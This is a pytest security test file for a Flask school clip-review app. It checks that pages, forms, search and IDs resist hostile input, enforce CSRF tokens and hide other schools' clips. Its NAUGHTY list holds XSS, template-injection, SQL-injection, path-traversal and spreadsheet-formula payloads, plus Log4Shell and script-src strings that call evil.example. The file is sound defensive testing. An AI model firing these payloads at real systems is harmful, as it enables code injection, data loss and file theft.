"""Words and requests that mean harm: shown as what they are, or refused."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from urllib.parse import urlencode

import pytest
from flask import Flask
from sqlalchemy.orm import Session

from review.decisions import NoteInput, Verdict, decide
from review.details import Details
from review.models import (
    Account,
    Clip,
    ClipPerson,
    Library,
    Note,
    School,
    SchoolClass,
)
from review.policy import Role
from review.states import Action, State
from tests.webapp.pages.conftest import Browser
from tests.webapp.pages.reading import Page
from tests.world import World, consented

Visitor = Callable[..., Browser]

# After the "big list of naughty strings": scripts, broken attributes, templates, formats, SQL.
NAUGHTY = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    "</title><svg/onload=alert(1)>",
    "</textarea><script src=//evil.example></script>",
    "</script><script>alert(1)</script><!--",
    "<a href=javascript:alert(1)>bấm</a>",
    "<style>*{display:none}</style>",
    "<!--", "]]>",
    "&lt;b&gt;&amp;#60;",
    "{{ 7*7 }}", "{% raw %}", "${7*7}", "#{7*7}",
    "%(name)s", "%s%n%d%", "{0.__class__}", "{count}",
    "'; DROP TABLE clips; --", "1 OR 1=1",
    "${jndi:ldap://evil.example/a}", "=cmd|' /C calc'!A0",
    "../../../etc/passwd", "CON", "NULL", "undefined", "ʎʇᴉlᴉqɐ", "👩‍👩‍👧‍👦 ﷽",
)  # fmt: skip

PAGES = {
    Role.PUPIL: ("/", "/clips", "/clips/{mine}", "/submit?clip={draft}"),
    Role.TEACHER: ("/", "/clips?of=class", "/clips/{mine}", "/clips/{public}"),
    Role.REVIEWER: ("/review", "/review/{mine}", "/clips/{mine}"),
    Role.MODERATOR: ("/clips/{public}", "/clips/{public}/details", "/review/{mine}"),
    Role.SAFEGUARDING: ("/safeguarding", "/review/{held}"),
    Role.ADMIN: ("/admin",),
    None: ("/library", "/library/{public}"),
}


@pytest.fixture
def clips(world: World) -> dict[str, str]:
    owner, people = world.person(Role.PUPIL), (consented(),)
    made = {
        "mine": world.clip(State.IN_REVIEW, owner=owner, people=people),
        "public": world.clip(State.PUBLISHED, owner=owner, people=people),
        "draft": world.clip(State.DRAFT, owner=owner, people=people),
        "held": world.clip(State.HELD, owner=owner, people=people),
    }
    world.decide(made["mine"], Action.REQUEST_CHANGES, Role.REVIEWER)
    world.library()
    return made


def shown(visitor: Visitor, clips: dict[str, str]) -> dict[tuple[object, str], Page]:
    return {
        (who, path): visitor(who).get(path.format(**clips))
        for who, paths in PAGES.items()
        for path in paths
    }


def name_everything(session: Session, words: str) -> None:
    """Whatever a person may name, named like this: past the forms, as an old row might be."""
    for model, columns in {
        Clip: ("title", "summary", "credit", "licence"),
        ClipPerson: ("label",),
        Note: ("text",),
        School: ("name",),
        SchoolClass: ("name",),
        Library: ("name",),
        Account: ("label",),
    }.items():
        for number, row in enumerate(session.query(model)):
            for column in columns:
                unique = f"{words} {number}" if column == "name" else words
                setattr(row, column, unique)


@pytest.mark.parametrize("language", ["vi", "en"])
def test_hostile_words_change_no_page(
    visitor: Visitor, world: World, clips: dict[str, str], language: str
) -> None:
    def visit(who: Role | None = None) -> Browser:
        return visitor(who, language)

    for role in PAGES:
        visitor(role)  # everybody is there before anything is named
    with world.write() as session:
        name_everything(session, "harmless")
    plain = shown(visit, clips)
    assert {page.status for page in plain.values()} == {200}
    with world.write() as session:
        name_everything(session, " ".join(NAUGHTY))
    hostile = shown(visit, clips)
    for key, page in hostile.items():
        assert page.structure() == plain[key].structure(), key
        assert "<script>alert" not in page.source, key
        assert "harmless" not in page.text, key


def test_hostile_words_are_shown_letter_by_letter(visitor: Visitor, world: World) -> None:
    owner = world.person(Role.PUPIL)
    person = visitor(owner)
    for words in NAUGHTY:
        details = Details.parse({"title": words, "summary": words})
        clip_id = world.clip(State.DRAFT, owner=owner, title=details.title)
        page = person.get(f"/submit?clip={clip_id}")
        assert dict(page.form("/submit").fields)["title"] == words
    listed = person.get("/clips").text
    assert [words for words in NAUGHTY[-20:] if words not in listed] == []


def test_a_hostile_note_and_a_hostile_label_come_through_the_forms(
    visitor: Visitor, world: World
) -> None:
    words = "</script><script>alert(1)</script> %(n)s {{ 7*7 }}"
    clip_id = world.clip(State.IN_REVIEW, owner=world.person(Role.PUPIL))
    teacher = visitor(Role.TEACHER)
    page = teacher.get(f"/clips/{clip_id}")
    after = teacher.follow(teacher.send(page, f"/clips/{clip_id}/people", label=words))
    assert f"Đã thêm {words}." in after.text
    actor, clip = world.actor(Role.REVIEWER), world.get(clip_id)
    with world.write() as session:
        verdict = Verdict(Action.REJECT, 1, clip.version, [NoteInput(1.0, "other", words)])
        decide(session, clip_id, actor, verdict)
    owners = visitor(Role.PUPIL).get(f"/clips/{clip_id}")
    assert owners.text.count(words) == 2
    assert [a for a in owners.all("script") if "src" not in a] == []


def test_search_words_stay_words(visitor: Visitor) -> None:
    for words in NAUGHTY:
        page = visitor(None).get(f"/library?{urlencode({'q': words, 'topic': words})}")
        assert page.status == 200
        (field,) = [a for a in page.all("input") if a.get("name") == "q"]
        assert field["value"] == words
        assert [a for a in page.all("input") if a.get("name") == "topic"] == []


@pytest.mark.parametrize("cursor", ["x", "%00", "AAAA", "9999", "fHx8", "../", "💥"])
def test_a_made_up_cursor_is_refused(visitor: Visitor, cursor: str) -> None:
    for path in ("/library", "/clips", "/review", "/admin/jobs", "/safeguarding"):
        role = {"/review": Role.REVIEWER, "/admin/jobs": Role.ADMIN, "/clips": Role.PUPIL}
        page = visitor(role.get(path, Role.SAFEGUARDING)).get(f"{path}?cursor={cursor}")
        assert page.status == 422
        assert "Con trỏ trang không đúng. Hãy mở lại danh sách." in page.text


IDS = (
    "clip_id",
    "job_id",
    "class_id",
    "person_id",
    "school_id",
    "consent_id",
    "redaction_id",
    "filter_id",
    "code",
    "library_id",
    "campaign_id",
    "batch_id",
)


def _posts(app: Flask) -> list[str]:
    """Every address of a page that takes a form."""
    programs = ("uploads.", "media.", "api.", "feed.", "health.")
    return sorted(
        rule.rule.replace("<", "{").replace(">", "}")
        for rule in app.url_map.iter_rules()
        if "POST" in (rule.methods or ()) and not rule.endpoint.startswith(programs)
    )


def test_every_form_is_refused_without_its_token(
    app: Flask, visitor: Visitor, world: World
) -> None:
    clip_id = world.clip(State.PUBLISHED)
    ids = {**dict.fromkeys(IDS, clip_id), "language": "vi"}
    paths = [path.format(**ids) for path in _posts(app)]
    assert len(paths) > 20
    values = {"reason": "office", "version": "1", "language": "en", "scope": "class"}
    for role in (Role.MODERATOR, Role.ADMIN, None):
        person = visitor(role)
        for path in paths:
            for more in ({}, {"csrf_token": "forged"}):
                page = person.post(path, values | more, forged=True)
                assert (page.status, page.headings) == (
                    400,
                    ["Trang mở đã lâu nên không gửi được. Hãy tải lại trang rồi gửi lại."],
                ), path
    clip = world.get(clip_id)
    assert (clip.state, clip.scope) == ("published", "public")


def test_every_form_refuses_who_is_not_signed_in(
    app: Flask, visitor: Visitor, world: World
) -> None:
    clip_id = world.clip(State.PUBLISHED)
    ids = {**dict.fromkeys(IDS, clip_id), "language": "vi"}
    free = {"/sign-in", "/sign-out", "/join", "/language", "/c", f"/library/{clip_id}/report"}
    person = visitor(None)
    for path in sorted({path.format(**ids) for path in _posts(app)} - free):
        page = person.post(path, {"reason": "office", "scope": "class", "version": "1"})
        sent_away = page.status == 302 and (page.location or "").startswith("/sign-in")
        assert sent_away or page.status == 401, path
    assert world.get(clip_id).state == "published"


def test_every_form_on_somebody_elses_clip_finds_nothing(
    app: Flask, visitor: Visitor, world: World
) -> None:
    """Another school's teacher and reviewer: as if the clip were not there."""
    clip_id = world.clip(State.IN_REVIEW, people=(consented(),), owner=world.person(Role.PUPIL))
    school, before = world.another_school(), world.get(clip_id)
    # Leaving gives back one's own claim and nothing else: it asks for no clip.
    paths = [p for p in _posts(app) if "{clip_id}" in p and not p.endswith("/leave")]
    values = {"reason": "guardian", "version": "3", "revision": "1", "scope": "class"}
    values |= {"action": "reject", "notes-0-code": "other", "label": "ai đó"}
    for role in (Role.TEACHER, Role.REVIEWER):
        person = visitor(world.account(role, school=school))
        for path in paths:
            others = {**dict.fromkeys(IDS[1:], "no-such"), "language": "vi"}
            there = person.post(path.format(clip_id=clip_id, **others), values)
            nowhere = person.post(path.format(clip_id="no-such", **others), values)
            assert there.status in (302, 403, 404), (role, path)
            # A decision on a clip that left one's queue leads back to it: on any clip, then.
            assert there.location in (None, "/review"), (role, path)
            assert (there.status, there.text, there.location) == (
                nowhere.status,
                nowhere.text,
                nowhere.location,
            ), (role, path)
    after = world.get(clip_id)
    assert (after.state, after.version, after.claimed_by) == (before.state, before.version, None)


@pytest.mark.parametrize(
    "address", ["/clips/{}", "/review/{}", "/library/{}", "/submit?clip={}", "/clips/{}/progress"]
)
def test_an_address_that_is_no_id_is_not_found(visitor: Visitor, address: str) -> None:
    for role in (Role.MODERATOR, Role.TEACHER):
        for part in ("'%20OR%201=1", "%00", "..%2f..%2fetc", "%F0%9F%92%A5", "x" * 2000, "-1"):
            status = visitor(role).get(address.format(part)).status
            assert status in (403, 404), (address, part)


ENDS = ("0001-01-01T00:00:00+14:00", "9999-12-31T23:00:00-14:00")


@pytest.mark.parametrize("end", ENDS)
def test_a_place_in_a_list_at_the_end_of_the_calendar(visitor: Visitor, end: str) -> None:
    office = visitor(Role.ADMIN)
    assert office.get("/admin/audit?" + urlencode({"cursor": f"{end}~a"})).status == 422
    assert office.get("/admin/audit?to_day=0001-01-01").status == 422
    place = base64.urlsafe_b64encode(f"{end}|0|{'0' * 26}".encode()).decode()
    assert visitor(Role.MODERATOR).get(f"/reports?cursor={place}").status == 422


def test_a_campaign_at_the_end_of_the_calendar(visitor: Visitor) -> None:
    office, path = visitor(Role.ADMIN), "/admin/campaigns/new"
    page = office.get(path)
    plain = {"slug": "vui", "title": "Vui", "stages-0-party": "reviewer"}
    for bad in ({"opens_at": "0001-01-01"}, {"announce_at": "0001-01-01T00:00"}):
        answer = office.send(page, path, **plain, **bad)
        assert (answer.status, "Ngày chưa đúng." in answer.text) == (422, True), bad


def test_a_case_told_at_the_end_of_the_calendar(visitor: Visitor, world: World) -> None:
    clip_id = world.clip(State.PUBLISHED)
    world.report(clip_id, "worry")
    officer, path = visitor(Role.SAFEGUARDING), f"/safeguarding/{clip_id}/hand-over"
    told = {"recipient": "school", "name": "Tổ", "text": "x", "told_at": "0001-01-01T00:00"}
    answer = officer.send(officer.get(f"/safeguarding/{clip_id}"), path, **told)
    assert (answer.status, "Thời điểm chưa đúng." in answer.text) == (422, True)


@pytest.mark.parametrize("index", ["²", "9" * 5000])
def test_a_row_with_a_number_that_is_none_is_nobodys(
    visitor: Visitor, world: World, index: str
) -> None:
    """Where rows are sent: the desk, the hidden parts, a campaign's stages, the people."""
    clip_id = world.clip()
    reviewer, office, pupil = (visitor(r) for r in (Role.REVIEWER, Role.ADMIN, Role.PUPIL))
    sent = (
        (reviewer, f"/review/{clip_id}", f"notes-{index}-text"),
        (reviewer, f"/clips/{clip_id}/redact", f"boxes-{index}-start"),
        (office, "/admin/campaigns/new", f"stages-{index}-party"),
        (pupil, "/submit", f"people-{index}-label"),
    )
    for person, path, name in sent:
        assert person.post(path, {name: "x"}).status in (302, 303, 400, 409, 422), path


@pytest.mark.parametrize("host", ["a" * 300, "a..b", "a" * 64 + ".example"])
@pytest.mark.parametrize("path", ["/", "/library", "/nothing", "/api/v1/clips"])
def test_a_host_that_is_no_name_is_told_so(app: Flask, host: str, path: str) -> None:
    answer = app.test_client().get(path, headers={"Host": host})
    assert answer.status_code == 400
    text = json.loads(answer.data)["title"] if path.startswith("/api") else answer.text
    assert text == "Yêu cầu không đúng dạng."
